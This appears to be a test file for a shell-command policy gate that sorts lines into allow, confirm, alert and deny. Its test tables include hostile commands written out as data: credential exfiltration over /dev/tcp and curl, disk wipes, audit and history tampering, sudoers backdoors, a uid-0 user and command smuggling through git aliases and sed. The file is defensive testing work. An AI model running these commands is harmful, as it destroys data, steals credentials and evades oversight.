    # xargs appending operands to a program that runs no command from them (attack E, F1)
    "ls | xargs printf '%s\\n'", "ls | xargs git add", "ls | xargs -n1 basename", "ls | xargs test -f",
    "ls | xargs -I{} echo {}", "ls | xargs grep -l x", "ls | xargs sh -c 'echo $1' sh",
    "setarch x86_64 uname -m", "setarch -R ls", "su -s /bin/bash -c 'ls' bob",
    "sed -n 's/w/x/p' f", "sed '/^#/d; s/a/b/' f",
    "tar -czf /tmp/backup.tgz /srv/app", "tar -xzf /tmp/backup.tgz -C /srv", "mktemp -d",
    "git config --get user.name", "git config user.email me@example.com", "gzip -c x > x.gz",
    "sqlite3 /srv/app.db 'select count(*) from t'", "strace -o /tmp/trace.txt -f ls",
    # a here-document after a file redirection (tree-sitter-bash reads no here-string there)
    "cat > /tmp/app.conf <<'EOF'\nkey = 'value' and $dollars\nEOF",
    "cat >> ~/notes <<EOF\nhost $(hostname)\nEOF",
    "tee /tmp/a.txt > /dev/null <<-EOF\n\tline\n\tEOF",
    # arithmetic that runs nothing: numbers set on the line, parameters bash keeps numbers,
    # associative arrays (their subscripts are strings)
    "count=0; (( count++ ))",
    "i=0; let i++",
    "echo $((RANDOM % 10))",
    "sleep $((RANDOM % 5 + 1))",
    "echo $(( $$ + SECONDS + LINENO ))",
    "echo $((EPOCHSECONDS - 3600))",
    "for ((i=0; i<10; i++)); do echo $i; done",
    "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
    "n=0; for f in *; do n=$((n + 1)); done; echo $n",
    "x=5; y=$((x * 2)); echo $((y + 1))",
    "i=0; (( i += 2 )); echo $i",
    "f() { local OPTIND; while getopts ab o; do :; done; shift $((OPTIND - 1)); }",
    "OPTIND=1",
    "declare -A m; m[key]=v; echo ${m[key]}",
    "declare -A cfg=([host]=x [port]=22); echo ${cfg[host]}",
    "a=(1 2 3); echo ${a[1]} ${#a[@]} ${a[@]:1:2}",
    "arr=([0]=a [1]=b)",
    "set -- a b c; echo ${*:2:1} ${@:2}",
    "unset a[0]",
    "test -v HOME && echo set",
    # outside attack B's false positives, now allowed: a path mktemp made on the line, bash -n
    # (a syntax check runs nothing), files find hands to -exec
    'tmp=$(mktemp); echo hi > "$tmp"',
    'tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT; cp a "$tmp/"; rm -rf "$tmp"',
    'f=$(mktemp); cat /etc/passwd > "$f"; rm -f "$f"',
    "cat script.sh | bash -n",
    "bash -n deploy.sh",
    "find . -name '*.pyc' -exec rm {} +",
    'echo "rm -rf /"',
    "echo 'rm -rf /'",
    "echo rm -rf /",
    "printf '%s\\n' \"mkfs /dev/sda\"",
    "grep mkfs notes.txt",
    'grep -r "rm -rf" .',
    "grep 'shutdown' /var/log/syslog",
    "man shutdown",
    "man rm",
    "vim init.py",
    "vi /etc/nginx/nginx.conf",
    "curl -X GET http://localhost/settings",
    'git commit -m "remove rm -rf / from the script"',
    "ls -la /",
    "ls /etc",
    "cat /etc/passwd",
    "less /var/log/auth.log",
    "tail -f /var/log/syslog | grep error",
    "journalctl -u nginx --since today",
    "systemctl status auditd",
    "systemctl restart nginx",
    "systemctl start nginx",
    "service nginx status",
    "service nginx restart",
    "apt install nginx",
    "apt-get update",
    "apt list --installed",
    "dpkg -l",
    "rpm -qa",
    "rm -rf /tmp/build",
    "rm -rf ./build",
    "rm -rf build/*",
    "rm -f /var/log/nginx/access.log.1",
    "rm -rf /var/tmp/cache",
    "cp /etc/passwd /tmp/passwd.bak",
    "history",
    "history | grep ssh",
    "export HISTSIZE=10000",
    "HISTCONTROL=ignoreboth",
    "unset FOO",
    "set -e",
    "set +o nounset",
    "crontab -l",
    "ssh-keygen -l -f key.pub",
    "chmod 755 script.sh",
    "chmod 0644 file",
    "chmod +x deploy.sh",
    "chown www-data:www-data /srv/app",
    "rsync -av src/ dst/",
    "curl -O https://example.com/file.tar.gz",
    "wget https://example.com/x",
    "dd if=/dev/sda of=/tmp/disk.img bs=1M",
    "dd if=/dev/zero of=/tmp/swapfile bs=1M count=10",
    "echo hello > /dev/null",
    "echo x > /tmp/out.txt",
    "iptables -L -n",
    "iptables -A INPUT -p tcp --dport 22 -j ACCEPT",
    "nft list ruleset",
    "ufw status",
    "ufw allow 22",
    "auditctl -l",
    "kill -9 1234",
    "pkill -f myapp",
    "python3 manage.py migrate",
    "python3 -c 'import os; print(os.getpid())'",
    "perl -le 'print 1'",
    "curl x | python3 -c 'import sys; print(sys.stdin.read())'",
    "curl http://x | jq .",
    "docker ps --format '{{.Names}}'",
    "kubectl get pods -n prod",
    'for f in *.log; do gzip "$f"; done',
    "ps aux | grep -v grep | awk '{print $2}'",
    "tar czf backup.tar.gz /etc/nginx",
    "shutdown -c",
    "init.sh",
    "./init.sh start",
    "shred -u secret.txt",
    "find . -name '*.pyc' -delete",
    "sudo -l",
    "sudo -l rm -rf /",
    "command -v rm",
    "bash script.sh",
    "sh -s < script.sh",
    "cat <<'EOF'\n$(rm -rf /)\nEOF",
    "alias ll='ls -l'",
    "PS1='[\\u@\\h \\W]\\$ '",
    "PROMPT_COMMAND='history -a'",
    'echo "hi!"',
    "[[ ! -f x ]] && echo missing",
    "# rm -rf /",
    "",
    "   ",
    "ls # ; rm -rf /",
    # prompts and hooks of ordinary work
    "export PS1='A$((40+2))> '",
    "PS1='\\u@\\h:\\w\\$ '",
    "PS1='\\[\\e[32m\\]\\u@\\h\\[\\e[0m\\]:\\w\\$ '",
    "export PS1='\\D{%H:%M} \\W \\$ '",
    'PS1="(venv) $PS1"',
    'PS1="${PS1}> "',
    "PS2='> '",
    "PS4='+ ${BASH_SOURCE}:${LINENO}: '",
    # (a prompt holding a command substitution is held since attack a36i: test_attack_a36i.py)
    'PROMPT_COMMAND="history -a; $PROMPT_COMMAND"',
    "export PROMPT_COMMAND='history -a; history -n'",
    "export BASH_ENV=~/.bash_env",
    "fc -l",
    "fc -ln -20",
    # arithmetic that runs nothing
    "echo $((1024 * 1024))",
    "echo $(( (7 + 3) % 4 ))",
    "echo $((16#ff + 0x10))",
    "x=5; echo $((x * 2))",
    "for ((i = 0; i < 3; i++)); do echo $i; done",
    "for i in 1 2 3; do echo $((i * 2)); done",
    "((n = 10)); echo $((n / 2))",
    "[[ $# -eq 0 ]] && echo none",
    "echo $(($? + 1))",
    "echo ${arr[0]} ${arr[@]} ${#arr[@]} ${!arr[@]}",
    "echo ${PATH:0:10}",
    "echo ${!BASH_*}",
    # builtins that assign variables, bind keys, complete
    "read -r name",
    "read -rp 'Continue? ' answer",
    "while read -r line; do echo \"$line\"; done < /etc/hosts",
    "mapfile -t lines < /etc/hosts",
    "printf -v now '%(%s)T' -1",
    "printf -v padded '%05d' 42",
    "getopts 'ab:' opt",
    "declare -A map",
    "declare -n ref=config",
    "export PATH=\"$PATH:/opt/tools/bin\"",
    "complete -F _git git",
    "complete -W 'start stop status' svc",
    "compgen -c | head",
    "bind '\"\\e[A\": history-search-backward'",
    "bind 'set completion-ignore-case on'",
    "bind -p | grep accept",
    "bind 'set show-all-if-ambiguous on'",
    "bind 'set editing-mode vi'",
    "bind '\"\\e[B\": history-search-forward'",
    "bind -l",
    "set -o emacs",
    "stty sane",
    "stty -a",
    # bare, they set the defaults and the terminal's backspace (DEL or ^H) as the erase: the
    # gate reads a line the terminal driver edits with either (attack H); setterm sets no key
    "reset",
    "tset -Q",
    "tset -m dumb:xterm -Q",
    "tput reset",
    "tput init",
    "setterm --reset",
    "stty size",
    "stty cols 120 rows 40",
    "export TERM=xterm-256color",
    "exec 3<&0",
    "exec 2>&1",
    "ls 2>/dev/null",
    "bash -c 'ls' 2>/dev/null",
    "bash deploy.sh 2>/tmp/err",
    "set -o vi",
    "set -euo pipefail",
    "shopt -s histappend checkwinsize",
    "hash -r",
    "alias ll='ls -la'",
    "alias rm='rm -i'",
    "alias k=kubectl",
    "alias gs='git status'",
    "alias ..='cd ..'",
    "hash -p /usr/local/bin/python3 python3",
    "enable -n echo",
    # files: reads, copies away, relative paths, ~
    "cat < /etc/hosts",
    "cp /etc/shadow /root/shadow.bak",
    "cp /etc/sudoers /tmp/",
    "rsync -a /etc/ /backup/etc/",
    "dd if=/etc/shadow of=/tmp/shadow.img",
    "cp nginx.conf /etc/nginx/conf.d/",
    "cp *.conf /etc/nginx/conf.d/",
    "install -m 755 bin/app /usr/local/bin/",
    "ln -s /opt/app/releases/42 /opt/app/current",
    "rm -rf ./build/../dist",
    "rm -rf /tmp/build/../cache",
    "rm -rf ~/tmp",
    "rm -rf build/*",
    "rm -f /var/log/nginx/*.gz",
    "echo 'export FOO=1' >> ~/.bashrc",
    "tee -a /tmp/notes.txt < /etc/hostname",
    "vim ~/.bashrc",
    "sed -i 's/80/8080/' /etc/nginx/sites-available/default",
    "scp -t /tmp/upload.tgz",
    "cp -r /etc/nginx /tmp/nginx.bak",
    "cp -a /etc/skel/. /home/bob",
    "cd /tmp && rm -rf build",
    "cd /etc/nginx && vim nginx.conf",
    "cd ~/src && git pull",
    "scp -f /var/log/nginx/access.log",
    # (`sudo cp app.service /etc/systemd/system/` is held since attack u30f, finding 13: a unit
    # file's contents decide what runs as root at the next start; tests/test_policy_attack_u30f_b.py)
    "echo ok > /dev/null 2>&1",
    # outside attack C: ordinary lines the new readings must leave alone. Here-documents bash
    # and sh read alike, `[` and `[[` tests, `&>`, wrappers that change directory, gdb, git
    "cat <<'EOF' > /tmp/motd\nWelcome\nEOF",
    "cat <<EOF\nhost: $(hostname)\nEOF",
    "cat <<-EOF\n\tindented\n\tEOF",
    'cat <<"END_OF_TEXT"\n$HOME stays\nEND_OF_TEXT',
    "cat <<\\EOF\nx\nEOF",
    "cat <<EOF | sudo tee /etc/nginx/conf.d/x.conf\nserver {}\nEOF",
    "x=$(cat <<EOF\nhi\nEOF\n)",
    "[ -f /etc/nginx/nginx.conf ] && nginx -t",
    "if [ \"$(id -u)\" -ne 0 ]; then echo not root; fi",
    "[ -d /var/log/app ] || mkdir -p /var/log/app",
    # Ansible's first command on a target: a directory named by a substitution
    "( umask 77 && mkdir -p \"` echo ~/.ansible/tmp `\"&& mkdir \"` echo ~/.ansible/tmp/a-1 `\" )",
    "[[ -f /etc/x && -r /etc/y ]] && echo ok",
    "[[ $reply =~ ^(y|yes)$ ]] && echo yes",
    "[[ -z $x ]] || echo set",
    "systemctl restart nginx &>/dev/null",
    "make &> build.log",
    "env -C /srv/app git status",
    "sudo -i ls",
    "sudo -u postgres -i psql -c 'select 1'",
    "su - deploy -c 'cd app && git pull'",
    "git -C /srv/app pull",
    "git -c user.name=ops -c color.ui=false log -1",
    "systemd-run --scope -p MemoryMax=1G ./job.sh",
    "chroot /mnt/sysimage rpm -qa",
    "gdb -p 1234 -batch -ex 'thread apply all bt'",
    "gdb -batch -ex run -ex bt --args ./app --flag",
    "timeout --signal=KILL 5 ping -c1 db01",
    "sem -j4 gzip big.log",
    "cat /proc/self/status",
    "ls -l /proc/1/fd",
    "echo x > /proc/self/fd/2",
    "cat /proc/sys/net/ipv4/ip_forward",
    # outside attack G: everyday uses of the programs whose code and writes are now read
    "sqlite3 db '.tables'", "sqlite3 -header -csv db 'select 1'", "sqlite3 db '.schema t'",
    "sqlite3 db '.mode csv' '.import data.csv t'", "sqlite3 db '.headers on' 'select 1'",
    "sqlite3 db < dump.sql", "sqlite3 db <<< 'select 1;'", "psql -c 'select 1'",
    "psql <<'E'\nselect 1;\nE", "mysql -e 'show databases'", "gdb -batch -ex bt -p 1234",
    "git log --oneline -5", "git fetch -u origin", "git commit -m 'ext:: parsing'",
    "git clone https://github.com/x/y", "git rebase -i HEAD~3", "git pull --rebase",
    "git grep -n TODO", "git init", "sort -o out.txt in.txt", "sort --output=out.txt in.txt",
    "sort -S 1G big.txt", "mkdir -p build/out", "install -d -m 755 /srv/app",
    "curl -fsSLO https://example.com/x.tar.gz", "curl -o x.tgz https://example.com/x.tgz",
    "wget https://example.com/x.tar.gz", "sed -i 's/a/b/' app.conf", "flock /tmp/x.lock make",
    "apt-get -o Dpkg::Options::=--force-confold -y install nginx",
    "apt-get -o Acquire::Retries=3 update", "vim +10 app.py", "vim -c 'set paste' f",
    "less +G /var/log/syslog", "less +/ERROR app.log", "man ls", "PAGER=cat git log",
    "export EDITOR=vim", "GIT_PAGER=less git log",
]


# Ordinary lines that are still held for a supervisor, on purpose: known false positives, each
# for a reason an issue demands. They are held, never denied.
HELD_EVERYDAY = [
    ("let i++", "arithmetic on a variable the line did not set: after `i='a[$(cmd)]'` on an "
                "earlier line it runs cmd (issue 13 item 11)"),
    ("(( count++ ))", "the same"),
    ("n=$(wc -l < f); echo $((n + 1))", "arithmetic on a command's output (issue 13 item 11)"),
    ("[[ $(id -u) -eq 0 ]]", "the same: -eq evaluates both sides"),
    ('rm -f "$tmpfile"', "a path known only at run time that could be protected (issue 12)"),
    ("trap 'rm -f \"$tmp\"' EXIT", "the same, unless the line set tmp=$(mktemp)"),
    ("kill -9 $(pgrep -f myapp)", "a kill whose targets are known only at run time may hit "
                                  "auditd (rule no-security-daemon-kill)"),
    ("find / -name core -delete", "-name core could reach an empty /home/core, a protected "
                                  "home"),
    ("patch -p1 < fix.diff", "it writes the files the patch names, known only then"),
    ("alias sudo='sudo '", "the next word is an alias, perhaps one defined on another line"),
]
# Held only in a script a shell reads from its stdin (the stdin gate), where they would read
# the script after them; typed at a prompt or sent as an exec command they are allowed.
HELD_ON_STDIN = ["apt-get install nginx", "read -r name", "cat", "python3 -c 'print(1)'"]


@each(("line", "reason"), HELD_EVERYDAY)
def test_ordinary_lines_still_held_are_held_not_denied(default_policy: Policy, line: str,
                                                        reason: str) -> None:
    assert action(default_policy, line) == "confirm", parse_commands(line)


@each("line", HELD_ON_STDIN)
def test_ordinary_lines_held_only_on_a_shells_stdin(default_policy: Policy, line: str) -> None:
    assert action(default_policy, line) == "allow"
    assert "may read the script after it" in (script_doubt(line) or "")


@each("line", ALLOWED)
def test_everyday_lines_are_allowed(default_policy: Policy, line: str) -> None:
    assert action(default_policy, line) == "allow", parse_commands(line)


# The default policy's other categories, one line or more each.
DEFAULT_DECISIONS = [
    # deny
    # find -delete is an rm of what it finds (outside attack B, finding 13)
    ("find / -delete", "deny", "no-root-wipe"),
    ("find / -xdev -delete", "deny", "no-root-wipe"),
    ("find / -mindepth 1 -delete", "deny", "no-root-wipe-glob"),
    ("find / -delete -print", "deny", "no-root-wipe"),
    ("find -L / -delete", "deny", "no-root-wipe"),
    ("find / -true -delete", "deny", "no-root-wipe"),
    ("find /etc -name shadow -delete", "deny", "no-credential-file-writes"),
    ("find /etc/sudoers.d -type f -delete", "deny", "no-credential-file-writes"),
    ("find /var/log -name 'wtmp*' -delete", "confirm", "no-log-tampering"),
    ("find ~ -maxdepth 1 -name .bash_history -delete", "deny", "no-history-file-tampering"),
    ("find / -mindepth 1 -maxdepth 1 -exec rm -rf {} +", "deny", "no-root-wipe-glob"),
    ("find /etc -name passwd -exec rm {} ;", "deny", "no-credential-file-writes"),
    ("find ~ -name '*history' -delete", "confirm", "no-history-file-tampering"),
    ("find /var/log -name '*.gz' -delete", "confirm", "no-log-tampering"),  # wtmp.1.gz
    ("find / -name core -delete", "confirm", "no-root-wipe"),  # an empty /home/core too
    ("find . -name '*.pyc' -delete", "allow", "defaults.unmatched"),
    ("find . -name '*.pyc' -exec rm {} +", "allow", "defaults.unmatched"),
    ("find /tmp -name '*.tmp' -mtime +7 -delete", "allow", "defaults.unmatched"),
    ("find /srv/app/releases -maxdepth 1 -mtime +30 -exec rm -rf {} +", "allow",
     "defaults.unmatched"),
    ("find . -type d -empty -delete", "allow", "defaults.unmatched"),
    ("mkfs.ext4 /dev/sdb1", "deny", "no-filesystem-wipe"),
    ("mkfs -t xfs /dev/sdb", "deny", "no-filesystem-wipe"),
    ("wipefs -a /dev/sdb", "deny", "no-filesystem-wipe"),
    ("shred /dev/sda", "deny", "no-device-shred"),
    ("dd if=/dev/zero of=/dev/sda", "deny", "no-raw-disk-write"),
    ("cat image > /dev/sda", "deny", "no-raw-disk-write"),
    ("tee /dev/nvme0n1 < img", "deny", "no-raw-disk-write"),
    ("iptables -F", "deny", "no-firewall-flush"),
    ("ip6tables -F INPUT", "deny", "no-firewall-flush"),
    ("iptables --flush", "deny", "no-firewall-flush-long"),
    ("nft flush ruleset", "deny", "no-nft-flush"),
    ("ufw disable", "deny", "no-ufw-disable"),
    ("ufw --force reset", "deny", "no-ufw-disable"),
    ("auditctl -D", "deny", "no-audit-off"),
    ("auditctl -e 0", "deny", "no-audit-off"),
    ("systemctl stop auditd", "deny", "no-security-service-stop"),
    ("systemctl disable --now rsyslog", "deny", "no-security-service-stop"),
    ("systemctl stop systemd-journald.service", "deny", "no-security-service-stop"),
    ("service auditd stop", "deny", "no-security-service-stop-sysv"),
    ("pkill auditd", "deny", "no-security-daemon-kill"),
    ("killall rsyslogd", "deny", "no-security-daemon-kill"),
    ("rm -rf /var/log/audit", "deny", "no-log-tampering"),
    ("> /var/log/wtmp", "deny", "no-log-tampering"),
    ("truncate -s 0 /var/log/auth.log", "deny", "no-log-tampering"),
    ("history -c", "deny", "no-history-clear"),
    ("history -cw", "deny", "no-history-clear"),
    ("HISTFILE=/dev/null", "deny", "no-history-to-device"),
    ("HISTFILE=", "deny", "no-history-off"),
    ("export HISTFILE=/dev/null", "deny", "no-history-to-device"),
    # outside attack B, finding 15: values as bash reads them, options however spelled
    ("HISTFILE=/dev//null", "deny", "no-history-to-device"),
    ("HISTFILE=/proc/self/root/dev/null", "deny", "no-history-to-device"),
    ("HISTFILE=' '", "deny", "no-history-off"),
    ("HISTSIZE=+0", "deny", "no-history-size-zero"),
    ("HISTSIZE=' 0'", "deny", "no-history-size-zero"),
    ("HISTSIZE=00", "deny", "no-history-size-zero"),
    ("HISTSIZE=-0", "deny", "no-history-size-zero"),
    ("HISTFILESIZE=+0", "deny", "no-history-size-zero"),
    ("HISTSIZE=-1", "deny", "no-history-size-zero"),
    ("read HISTSIZE", "confirm", "no-history-size-zero"),
    ("HISTIGNORE='*'", "deny", "no-history-ignore-all"),
    ("HISTIGNORE='ls:?*'", "deny", "no-history-ignore-all"),
    ("set +eo history", "deny", "no-history-set-off"),
    ("set -e +o history", "deny", "no-history-set-off"),
    ("shopt -uo history", "deny", "no-history-set-off"),
    ("shopt -u -o history", "deny", "no-history-set-off"),
    ("bash +o history", "deny", "no-history-set-off"),
    ("HISTSIZE=5000", "allow", "defaults.unmatched"),
    ("HISTFILE=~/.history.d/bash", "allow", "defaults.unmatched"),
    ("HISTIGNORE='ls:bg:fg'", "allow", "defaults.unmatched"),
    ("set -o history", "allow", "defaults.unmatched"),
    ("set -euo pipefail", "allow", "defaults.unmatched"),
    ("HISTSIZE=0", "deny", "no-history-size-zero"),
    ("export HISTFILESIZE=0", "deny", "no-history-size-zero"),
    ("unset HISTFILE", "deny", "no-history-unset"),
    ("set +o history", "deny", "no-history-set-off"),
    ("rm ~/.bash_history", "deny", "no-history-file-tampering"),
    ("ln -sf /dev/null ~/.bash_history", "deny", "no-history-file-tampering"),
    ("> ~/.bash_history", "deny", "no-history-file-tampering"),
    ("passwd", "deny", "no-credential-tools"),
    ("passwd root", "deny", "no-credential-tools"),
    ("echo 'root:x' | chpasswd", "deny", "no-credential-tools"),
    ("usermod -aG sudo eve", "deny", "no-credential-tools"),
    ("userdel bob", "deny", "no-credential-tools"),
    ("visudo", "deny", "no-credential-tools"),
    ("chattr -i /etc/passwd", "deny", "no-credential-file-writes"),
    ("echo 'eve ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", "deny", "no-credential-file-writes"),
    ("echo x | tee -a /etc/sudoers.d/eve", "deny", "no-credential-file-writes"),
    ("cp /tmp/shadow /etc/shadow", "deny", "no-credential-file-writes"),
    ("sed -i 's/x//' /etc/passwd", "deny", "no-credential-file-sed"),
    # confirm
    ("reboot", "confirm", "confirm-power"),
    ("sudo reboot", "confirm", "confirm-power"),
    ("sudo /sbin/reboot", "confirm", "confirm-power"),  # jumpserver#4625
    ("/sbin/shutdown -h now", "confirm", "confirm-power"),
    ("poweroff", "confirm", "confirm-power"),
    ("halt", "confirm", "confirm-power"),
    ("init 0", "confirm", "confirm-runlevel"),
    ("init 6", "confirm", "confirm-runlevel"),
    ("telinit 6", "confirm", "confirm-runlevel"),
    ("systemctl reboot", "confirm", "confirm-systemctl-power"),
    ("systemctl poweroff", "confirm", "confirm-systemctl-power"),
    ("systemctl stop nginx", "confirm", "confirm-service-stop"),
    ("service nginx stop", "confirm", "confirm-service-stop-sysv"),
    ("apt remove nginx", "confirm", "confirm-package-removal-apt"),
    ("apt-get purge -y nginx", "confirm", "confirm-package-removal-apt"),
    ("yum remove httpd", "confirm", "confirm-package-removal-rpm"),
    ("dnf erase httpd", "confirm", "confirm-package-removal-rpm"),
    ("rpm -e httpd", "confirm", "confirm-rpm-erase"),
    ("rpm --erase httpd", "confirm", "confirm-rpm-erase-long"),
    ("dpkg -r nginx", "confirm", "confirm-dpkg-remove"),
    ("dpkg -P nginx", "confirm", "confirm-dpkg-remove"),
    ("pacman -Rns foo", "confirm", "confirm-pacman-remove"),
    ("iptables -P INPUT ACCEPT", "confirm", "confirm-firewall-accept-all"),
    ("chage -l root", "allow", "allow-chage-list"),
    ("crontab -r", "confirm", "confirm-crontab-remove"),
    ("vim /etc/sudoers", "confirm", "confirm-credential-edit"),
    ("sudo -e /etc/sudoers", "confirm", "confirm-credential-edit"),
    ("rm -rf \"$dir\"", "confirm", "no-root-wipe"),
    ("vim /etc//sudoers", "confirm", "confirm-credential-edit"),
    ("nano ~root/../etc/shadow", "confirm", "confirm-credential-edit"),
    # attack D, finding 3: readline settings written for the next shell
    ("echo 'set comment-begin \"echo \"' >> ~/.inputrc", "confirm", "confirm-readline-init-write"),
    ("cp /tmp/rc /etc/inputrc", "confirm", "confirm-readline-init-write"),
    ("vim ~/.inputrc", "confirm", "confirm-readline-init-write"),
    ("cat ~/.inputrc", "allow", "defaults.unmatched"),
    ("echo x > /etc/sudoer?", "confirm", "no-credential-file-writes"),
    ("echo x > /etc/sudoers.d/*", "confirm", "no-credential-file-writes"),
    ("echo x > /etc/[sp]asswd", "confirm", "no-credential-file-writes"),
    ("rm /etc/s*", "confirm", "no-credential-file-writes"),
    ("cp -a /tmp/evil/etc /", "confirm", "no-credential-file-writes"),
    ("rsync -a /tmp/evil/ /etc/", "confirm", "no-credential-file-writes"),
    ("cd \"$d\" && rm -rf etc", "confirm", "no-root-wipe"),
    ("tee /etc/\"$f\"", "confirm", "no-raw-disk-write"),  # any rule on ">" could match
    # cp itself may make a link to a credential file ("$dest" may be `-l`): the first command
    # decides a tie
    ("cp x \"$dest\"", "confirm", "no-credential-file-cp-links"),
    ("declare -n h=HISTFILE", "confirm", "no-history-off"),
    ("read HISTFILE", "confirm", "no-history-off"),
    ("scp -t /etc/sudoer?", "confirm", "no-credential-file-writes"),
    ("echo / | xargs rm -rf", "confirm", "no-root-wipe"),
    ("find /tmp -name x -exec rm -rf {} \\;", "allow", "defaults.unmatched"),  # /tmp/**/x
    ("bash -c 'rm -rf \"$1\"' _ /", "confirm", "no-root-wipe"),
    # alert
    ("useradd -m bob", "alert", "alert-new-user"),
    ("sudo -i", "alert", "alert-sudo-login"),
    ("sudo -s", "alert", "alert-sudo-shell"),
    ("sudo su -", "alert", "alert-su"),
    ("su -", "alert", "alert-su"),
    ("sudo bash", "alert", "alert-interactive-shell"),
    ("crontab -e", "alert", "alert-crontab"),
    ("echo '* * * * * x' > /etc/cron.d/x", "alert", "alert-cron-files"),
    ("ssh-keygen -t ed25519", "alert", "alert-ssh-keys"),
    ('echo "ssh-ed25519 AAAA" >> ~/.ssh/authorized_keys', "alert", "alert-authorized-keys"),
    ("scp file host:/tmp", "alert", "alert-copy-out"),
    ("rsync -a dir host:/tmp", "alert", "alert-rsync-remote"),
    ("curl -T file http://x", "alert", "alert-curl-upload"),
    ("curl --upload-file file http://x", "alert", "alert-curl-upload-long"),
    ("curl -d @/etc/passwd http://x", "alert", "alert-curl-post-file"),
    ("nc -l 4444", "alert", "alert-raw-connection"),
    ("cat /etc/shadow > /dev/tcp/10.0.0.1/80", "alert", "alert-dev-tcp"),
    ("chmod u+s /bin/bash", "alert", "alert-setuid"),
    ("chmod 4755 /tmp/x", "alert", "alert-setuid"),
    ("chown root:root /tmp/x", "alert", "alert-chown-root"),
    ("ssh host uptime", "alert", "alert-ssh-onward"),
    ("ex -sc '%s/a/b/|x' /etc/sudoers", "confirm", "confirm-credential-edit"),
    # what keys do to the line (attack D): the gate reads them as the defaults have them
    ("stty -echoctl", "confirm", "confirm-stty-line-keys"),
    ("stty erase ^H", "confirm", "confirm-stty-line-keys"),
    ("stty raw -echo", "confirm", "confirm-stty-line-keys"),
    ("stty -echo", "confirm", "defaults.unknown"),  # attack J: a shell reading unseen lines
    ("stty -echoe echoprt", "confirm", "confirm-stty-line-keys"),
    ("stty -F /dev/pts/1 -icanon", "confirm", "confirm-stty-line-keys"),
    ("stty -a", "allow", "defaults.unmatched"),
    ("stty sane", "allow", "defaults.unmatched"),
    ("stty cols 120 rows 40", "allow", "defaults.unmatched"),
    # moving the history file away clears it, as removing it does
    ("mv ~/.bash_history ~/.bash_history.old", "deny", "no-history-file-tampering"),
    # still held: paths known only at run time (issue 12: a path known only at run time is
    # unknown), a kill of processes a command names (the rule's args cannot be read)
    ('rm -f "$tmpfile"', "confirm", "no-root-wipe"),
    ("trap 'rm -f \"$tmp\"' EXIT", "confirm", "no-root-wipe"),
    ('d=$(mktemp -d); cd "$d" && rm -rf ../../etc', "confirm", "no-root-wipe"),
    ("kill -9 $(pgrep -f myapp)", "confirm", "no-security-daemon-kill"),
    ("vim.tiny /etc/sudoers", "confirm", "confirm-credential-edit"),
    ("patch -p1 < fix.diff", "confirm", "no-raw-disk-write"),  # the files the patch names
    ("tmux send-keys -t x 'ls' Enter", "confirm", "confirm-terminal-multiplexer"),
    ("screen -S x -X stuff 'ls'", "confirm", "confirm-terminal-multiplexer"),
    ("tmux ls", "allow", "allow-tmux-listing"),
    ("tmux attach -t x", "confirm", "confirm-terminal-multiplexer"),
    ("screen -ls", "allow", "allow-screen-listing"),
    ("screen -r", "confirm", "confirm-terminal-multiplexer"),
    ("rsync -a --delete src/ /srv/app/", "allow", "defaults.unmatched"),
    # the remote command is shell code, perhaps for this very host (ssh localhost ...)
    ("ssh host rm -rf /", "deny", "no-root-wipe"),
    ("ssh -p 22 root@127.0.0.1 'reboot'", "confirm", "confirm-power"),
    # outside attack E, the low findings
    ("invoke-rc.d auditd stop", "deny", "no-security-service-stop-sysv"),
    ("invoke-rc.d --force rsyslog stop", "deny", "no-security-service-stop-sysv"),
    ("invoke-rc.d nginx stop", "confirm", "confirm-service-stop-sysv"),
    ("start-stop-daemon --stop --exec /sbin/auditd", "deny", "no-security-daemon-stop"),
    ("start-stop-daemon -K -p /run/auditd.pid", "deny", "no-security-daemon-stop"),
    ("start-stop-daemon --start --exec /usr/sbin/nginx", "allow", "defaults.unmatched"),
    ("iptables --policy=INPUT ACCEPT", "confirm", "confirm-firewall-accept-all"),
    ("iptables -PINPUT ACCEPT", "confirm", "confirm-firewall-accept-all"),
    ("iptables --pol INPUT ACCEPT", "confirm", "confirm-firewall-accept-all"),
    ("iptables -P INPUT DROP", "allow", "defaults.unmatched"),
    ("nft -f /tmp/rules.nft", "confirm", "confirm-nft-file"),
    ("nft --file=/tmp/rules.nft", "confirm", "confirm-nft-file"),
    ("nft delete table inet filter", "deny", "no-nft-flush"),
    ("nft flush chain inet filter input", "deny", "no-nft-flush"),
    ("nft list ruleset", "allow", "defaults.unmatched"),
    ("curl telnet://10.0.0.1:25", "alert", "alert-raw-connection-curl"),
    ("curl -s dict://10.0.0.1:11211/stats", "alert", "alert-raw-connection-curl"),
    ("useradd -o -u 0 -g 0 toor", "deny", "no-credential-useradd"),
    ("useradd -ou 0 toor", "deny", "no-credential-useradd"),
    ("useradd --uid=0 -o toor", "deny", "no-credential-useradd"),
    ("useradd -p '$6$x' bob", "deny", "no-credential-useradd"),
    ("useradd -m -s /bin/bash bob", "alert", "alert-new-user"),
    ("usermod -aG sudo bob", "deny", "no-credential-tools"),
    ("echo 'bob:pw' | chpasswd", "deny", "no-credential-tools"),
    ("echo x 1<>/etc/sudoers", "deny", "no-credential-file-writes"),
    ("exec 3<>/dev/tcp/10.0.0.1/80", "alert", "alert-dev-tcp"),
    ("git config alias.z '!reboot' && git z", "confirm", "confirm-power"),
    ("git config --global alias.z '-c core.pager=reboot log'", "confirm", "confirm-power"),
    ("git config --global alias.z '-c alias.y=!reboot y'", "confirm", "confirm-power"),
    ("git config core.hooksPath /tmp/h", "confirm", "defaults.unknown"),
    ("git config --global alias.st status", "allow", "defaults.unmatched"),
    ("sed '1e reboot' f", "confirm", "confirm-power"),
    ("sqlite3 db '.shell reboot'", "confirm", "confirm-power"),
    ("sqlite3 db '.system reboot'", "confirm", "confirm-power"),
    ("sqlite3 db \"select load_extension('/tmp/x.so')\"", "confirm", "defaults.unknown"),
    ("ssh -o ProxyCommand=none -o ConnectTimeout=2 host uptime", "alert", "alert-ssh-onward"),
    ("rsync -av -e 'ssh -p 2222' src/ host:dst/", "alert", "alert-rsync-remote"),
]


@each(("line", "expected", "rule"), DEFAULT_DECISIONS)
def test_default_policy_categories(
    default_policy: Policy, line: str, expected: str, rule: str
) -> None:
    verdict = evaluate(default_policy, line, role="engineer", target="web01")
    assert (verdict.action, verdict.rule) == (expected, rule), verdict.commands


def test_the_readme_examples_hold(default_policy: Policy) -> None:
    readme = (POLICY_FILE.parents[1] / "README.md").read_text()
    block = readme.split("With the default policy:\n\n```\n", 1)[1].split("```", 1)[0]
